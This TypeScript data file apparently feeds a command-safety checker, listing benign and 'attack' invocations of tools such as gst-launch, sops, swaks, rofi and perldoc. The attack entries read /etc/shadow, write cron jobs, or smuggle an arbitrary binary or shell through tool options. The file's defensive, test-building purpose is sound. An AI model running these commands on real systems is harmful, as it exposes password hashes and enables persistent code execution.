import type { ExampleTable } from './example.ts'

/** Programs of several families that are told what to do in a language or a notation of their own. */
export const ownLanguages: ExampleTable = {
  'bzr diff': {
    use: 'bzr diff -r 12 → nothing',
    attack: 'bzr diff --using=/tmp/x → run /tmp/x',
  },
  conky: {
    use: "conky -t '${tail notes.txt 3}' → read notes.txt",
    attack: "conky -t '${cat /etc/shadow}' → read /etc/shadow",
  },
  'gio copy': {
    use: 'gio copy a.txt b.txt → read a.txt; write b.txt',
    attack: 'gio copy job /etc/cron.d/job → write /etc/cron.d/job',
  },
  'gio save': {
    use: 'echo x | gio save a.txt → write a.txt',
    attack: 'echo x | gio save /etc/cron.d/job → write /etc/cron.d/job',
  },
  'gst-launch-1.0': {
    use: [
      'gst-launch-1.0 filesrc location=a.mp4 ! decodebin ! filesink location=a.raw → read a.mp4; write a.raw',
      'gst-launch-1.0 videotestsrc ! autovideosink → nothing',
    ],
    attack: [
      'gst-launch-1.0 filesrc location=/etc/shadow ! fdsink → read /etc/shadow',
      'gst-launch-1.0 fdsrc ! filesink location=/etc/cron.d/job → write /etc/cron.d/job',
    ],
    unclear: 'gst-launch-1.0 ximagesrc ! videoconvert ! fakesink → whom it listens to or looks at',
  },
  nickel: {
    use: 'nickel export main.ncl -o main.json → write main.json',
    attack: 'nickel export main.ncl -o /etc/cron.d/job → write /etc/cron.d/job',
  },
  rofi: {
    use: 'rofi -show run → nothing',
    attack: 'rofi -show run -terminal /tmp/x → run /tmp/x',
  },
  surfraw: {
    use: 'surfraw -browser=lynx google bash → nothing',
    attack: 'surfraw -browser=/tmp/x google bash → run /tmp/x',
  },
  xclip: {
    use: 'xclip -i notes.txt → read notes.txt',
    attack: 'xclip -i /etc/shadow → read /etc/shadow',
  },
  xrdb: {
    use: 'xrdb -merge .Xresources → read .Xresources',
    attack: 'xrdb -cpp /tmp/x .Xresources → run /tmp/x',
  },
  yad: {
    use: 'yad --text-info --filename=notes.txt → read notes.txt',
    attack: 'yad --form --button=go:/tmp/x → run /tmp/x',
  },
  'sops exec-env': {
    use: "sops exec-env secrets.yaml 'npm start' → nothing",
    attack: "sops exec-env secrets.yaml 'cat /etc/shadow' → read /etc/shadow",
  },
  'sops exec-file': {
    use: "sops exec-file secrets.yaml 'wc -l notes.txt' → use notes.txt",
    attack: "sops exec-file secrets.yaml 'cat /etc/shadow' → read /etc/shadow",
  },
  swaks: {
    use: 'swaks --to me@example.org --server mail.example.org --attach @report.txt → read report.txt',
    attack:
      'swaks --to a@example.org --server mail.example.org --attach /etc/shadow → read /etc/shadow',
  },
  elinks: {
    use: 'elinks -dump https://example.org/ → fetch https://example.org/',
    attack: 'elinks -dump /etc/shadow → read /etc/shadow',
  },
  gosh: {
    use: "gosh -e '(display 1)' → nothing",
    attack: 'gosh -e \'(sys-system "cat /etc/shadow")\' → read /etc/shadow',
  },
  pic: {
    use: 'pic flow.pic → read flow.pic',
    attack: 'pic /etc/shadow → read /etc/shadow',
  },
  osqueryi: {
    use: 'osqueryi "select name from os_version" → nothing',
    attack: 'osqueryi ".read /etc/shadow" → read /etc/shadow',
  },
  luatex: {
    use: 'luatex --luaonly tools/map.lua → read tools/map.lua',
    attack: 'luatex --luaonly /etc/shadow → read /etc/shadow',
  },
  perldoc: {
    use: 'perldoc -f open → nothing',
    attack: 'perldoc -T -n /bin/sh open → shell sh',
  },
}
